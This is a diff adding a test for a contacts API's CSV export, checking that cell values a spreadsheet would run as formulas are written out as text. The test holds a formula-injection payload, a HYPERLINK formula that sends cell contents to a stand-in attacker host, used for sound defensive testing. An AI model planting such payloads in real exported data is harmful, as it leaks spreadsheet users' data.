@@ -186,3 +186,14 @@ def test_export_needs_a_token(concord: Concord) -> None:
         response = anonymous.post("/api/contacts/export", json={}, headers=headers)
         assert (response.status_code, response.json()) == (401, {"message": "Unauthenticated."})
     assert concord.get("contacts/export").status_code == 404  # a record id there, as Laravel routes it
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(concord: Concord) -> None:
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    companies = [concord.create("companies", {"name": name})["id"] for name in ("-2+3 Corp", "Acme")]
+    concord.create("contacts", {"first_name": payload, "last_name": "@SUM(1)", "job_title": "CFO",
+                                "companies": companies})
+    [cells] = as_dicts(concord.post("contacts/export", {"type": "csv"}))
+    assert (cells["First Name"], cells["Last Name"], cells["Job Name"]) == ("'" + payload, "'@SUM(1)", "CFO")
+    assert cells["Companies"] == "'-2+3 Corp, Acme"  # the cell, not each name in it
+    assert cells["Total Companies"] == "2"
